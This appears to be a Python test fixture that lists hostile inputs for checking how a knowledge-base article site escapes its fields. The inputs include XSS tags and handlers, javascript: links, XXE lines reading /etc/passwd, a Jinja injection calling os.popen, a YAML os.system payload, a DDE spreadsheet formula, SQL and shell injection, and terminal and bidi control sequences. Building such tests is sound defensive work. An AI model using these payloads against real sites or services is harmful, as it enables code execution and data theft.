"""Texts that would act, were they not text: what the fields of hostile articles hold.

What runs sets `window.__hostile`; what asks for something asks `hostile.example`.
"""

from __future__ import annotations

from collections.abc import Mapping

RUN = "window.__hostile=1"
HOST = "https://hostile.example"

PAYLOADS: Mapping[str, str] = {
    # HTML
    "script": f"<script>{RUN}</script>",
    "script-src": f'<script src="{HOST}/x.js"></script>',
    "script-in-capitals": f"<ScRiPt>{RUN}</sCrIpT>",
    "script-not-closed": f"<script>{RUN}//",
    "image-handler": f'<img src=x onerror="{RUN}">',
    "image-handler-without-quotes": f"<img/src=x/onerror={RUN}>",
    "svg-handler": f"<svg/onload={RUN}>",
    "svg-script": f"<svg><script>{RUN}</script></svg>",
    "math-link": f'<math><mtext href="javascript:{RUN}">x</mtext></math>',
    "details-handler": f"<details open ontoggle={RUN}>",
    "focus-handler": f"<input autofocus onfocus={RUN}>",
    "frame": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "frame-src": f'<iframe src="javascript:parent.{RUN}"></iframe>',
    "object": f'<object data="{HOST}/x"></object><embed src="{HOST}/y">',
    "base": f'<base href="{HOST}/">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={HOST}/">',
    "form": f'<form action="{HOST}/"><button autofocus>x</button></form>',
    "style": f"<style>@import '{HOST}/x.css'; body {{background: url({HOST}/x.png)}}</style>",
    "link-element": f'<link rel="stylesheet" href="{HOST}/x.css">',
    "image-request": f'<img src="{HOST}/x.png">',
    "template": f"<template><script>{RUN}</script></template><slot></slot>",
    "own-element": "<kb-0></kb-0>",
    # what ends the element that holds it
    "quote-handler": f'" onmouseover="{RUN}" autofocus onfocus="{RUN}',
    "apostrophe-handler": f"' onmouseover='{RUN}' x='",
    "no-quote-handler": f"x onmouseover={RUN} y",
    "title-end": f"</title><script>{RUN}</script>",
    "script-end": f"</script><script>{RUN}</script>",
    "style-end": f"</style><script>{RUN}</script>",
    "textarea-end": f"</textarea><script>{RUN}</script>",
    "noscript-end": f"</noscript><script>{RUN}</script>",
    "pre-end": f"</code></pre></div></article><script>{RUN}</script>",
    "comment-end": f"--><script>{RUN}</script><!--",
    "comment-end-odd": f"--!><script>{RUN}</script>",
    "cdata-end": f"]]><script>{RUN}</script><![CDATA[",
    "instruction": f"<?php {RUN} ?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    # addresses
    "javascript-link": f"[x](javascript:{RUN}) <javascript:{RUN}> javascript:{RUN}",
    "javascript-link-hidden": f"[x](JaVa&#x09;Script:{RUN}) [y](java\tscript:{RUN}) [z](&#106;avascript:{RUN})",
    "data-link": "[x](data:text/html,<script>parent.__hostile=1</script>) data:text/html;base64,PHNjcmlwdD4=",
    "vbscript-link": "[x](vbscript:msgbox) [y](file:///etc/passwd) [z](blob:x) <vbscript:x>",
    "address-quote": f"http://a.example/\"onmouseover=\"{RUN} http://a.example/'onfocus='{RUN}",
    "address-markup": f"http://a.example/<script>{RUN}</script> mailto:a@b.example?x=<img/src=x/onerror={RUN}>",
    "address-in-brackets": f'<http://a.example/" onmouseover="{RUN}"> <a@b.example" onfocus="{RUN}">',
    "address-of-microsoft": f'http://support.microsoft.com/support/kb/articles/Q168/8/45.asp"onmouseover="{RUN}',
    "addresses-of-nothing": "http:// https://[ http://[::1 http://%00/ ftp://%zz/ //hostile.example www.a.example",
    # Markdown
    "markdown-image": f"![x]({HOST}/x.png) ![y][ref]",
    "markdown-reference": f"[x][ref] [ref]: javascript:{RUN} 'x'",
    "markdown-footnote": f"[^1] [^1]: <script>{RUN}</script> *[HTML]: <b>",
    "markdown-attributes": f'x {{: #top onclick="{RUN}" style="position:fixed" }} {{ onfocus={RUN} }} {{#id .class}}',
    "markdown-admonition": f'!!! danger "<script>{RUN}</script>" ??? note "x" ::: x',
    "markdown-tabs": f'=== "<script>{RUN}</script>" /// html | script',
    "markdown-snippet": '--8<-- "../secret.txt" -8<- "/etc/passwd" ;--8<-- "x" {! ../secret.txt !}',
    "markdown-code": f"`` ` `` ```html <script>{RUN}</script> ``` ~~~ ${RUN}$ $$x$$",
    "markdown-marks": "**x** __y__ ~~z~~ ==m== ++i++ --d-- ^^u^^ H~2~O x^2^ :smile: [TOC] [x] [ ] ||x||",
    "markdown-table": "| a | b | |---|---| | <b>c</b> | d | <br>",
    "markdown-backslashes": "\\\\\\<script\\> \\&lt;b\\&gt; \\[x\\](y) \\",
    "markdown-placeholders": "\x02wzxhzdk:0\x03 \x02klzzwxh:0001\x03 \x02amp\x03 \x02stash\x03 STX ETX",
    # templates
    "jinja": "{{ 7 * 7 }}{% set x = config.__class__.__mro__ %}{{ x }}{# gone #}",
    "jinja-file": "{% include '../secret.txt' %}{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "liquid": "{% endraw %}{{ site.github }}{% include_relative ../secret.txt %}{% raw %}",
    "python-format": "%s %(x)s %n {0} {x!r} {self.__class__} $x ${x} \\g<0> \\1",
    # this program's own signs
    "own-signs": "mskb-title mskb-description https://mskb-canonical/ #mskb-first mskb-first TITLE_SIGN content toc",
    "own-links": "<article-link Q900001>x</article-link> <article-link Q1><b>x</b></article-link>",
    "own-figures": "<!-- articles-by-year --> <!-- --> <!-- figures -->",
    "own-classes": '<div class="mskb-body"></div></div></article><div class="mskb-foot">',
    # entities
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62; &quot; onfocus=&quot;{RUN}",
    "entities-twice": f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt; &amp;amp;#60;b&amp;amp;#62;",
    "entities-without-end": f"&ltscript&gt{RUN}&lt/script&gt &#x3cscript&#x3e &#0; &#x110000; &nosuch; &colon;",
    # data
    "json": '"}],"x":{"y":"\\u003cscript\\u003e","__proto__":{"z":1}}',
    "json-backslash": 'x\\" \\u0022,\\n\\',
    "yaml": "x: !!python/object/apply:os.system ['touch hostile-was-here'] # {y: [*z, &z 1]} | > - ? @ ` %",
    "xml": "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e 'eeeeeeee'>]><x>&e;</x>",
    "formula": f'=HYPERLINK("{HOST}","x") +cmd|\' /C calc\'!A0 @SUM(1+1) -1+1 \t=1',
    "table-breakers": 'a,b;"c"\t\'d\' ""',
    "sql": "'; DROP TABLE articles; -- \" OR 1=1 /* x */ NEAR( * ^",
    "shell": "$(touch hostile-was-here) `touch hostile-was-here` ; touch hostile-was-here | x && y > z",
    "search-query": 'type:x "phrase" -not +and OR pagefind <mark>x</mark>',
    # characters
    "control-characters": "a\x01b\x07c\x08d\x0be\x0cf\x0eg\x1fh\x7fi",
    "terminal": "\x1b[2J\x1b[31mred\x1b]0;title\x07\x1b]8;;https://hostile.example\x07link\x1b]8;;\x07\x1bP$q\x1b\\",
    "terminal-8-bit": "\x9b31mred \x9d0;title\x9c \x90x\x9c",
    "right-to-left": "\u202eexe.txt\u202c \u2066isolated \u2069 \u200fmark \u061c",
    "zero-width": "z\u200be\u200cr\u200do\u2060w\ufeffi\u00addth \U000e0041\U000e0042",
    "line-ends": "one\x85two\u2028three\u2029four\x0bfive\x1csix",
    "surrogates": "\U0001f600 \ufffd \ufffe \uffff \U0010ffff",
    "combining": "Z" + "\u0301\u0316\u0489" * 60,
    "look-alikes": "\uff1cscript\uff1e \u2039script\u203a \uff02 \u02bc \uff07 \u037e \uff05 \u2024\u2024\u2215etc",
    "long-word": "x" * 5000,
}
